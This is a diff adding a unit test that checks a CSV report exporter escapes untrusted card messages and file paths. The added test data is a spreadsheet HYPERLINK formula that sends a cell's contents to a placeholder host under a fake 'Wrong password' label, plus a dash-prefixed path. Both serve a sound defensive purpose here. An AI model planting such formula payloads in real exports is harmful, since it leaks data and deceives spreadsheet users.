@@ -230,6 +230,12 @@ TEST(CardText, MessagesThatReadLikeTheProgramsOwnAreQuoted) {
   CardResult card = report_cards(&report).at(0);
   EXPECT_EQ(result_column_text(card), "Card error: \"OK.\"");
   EXPECT_NE(report_csv({card}).find(",card_error,\"Card error: \"\"OK.\"\"\","), std::string::npos);
+
+  // The card's message and the image's path are text from outside.
+  card.message = "=HYPERLINK(\"http://x\"&A1,\"Wrong password - click\")";
+  card.image = "-x.bin";
+  EXPECT_NE(report_csv({card}).find(",'-x.bin,"), std::string::npos);
+  EXPECT_NE(report_csv({card}).find(",\"'=HYPERLINK("), std::string::npos);
 }
 
 }  // namespace
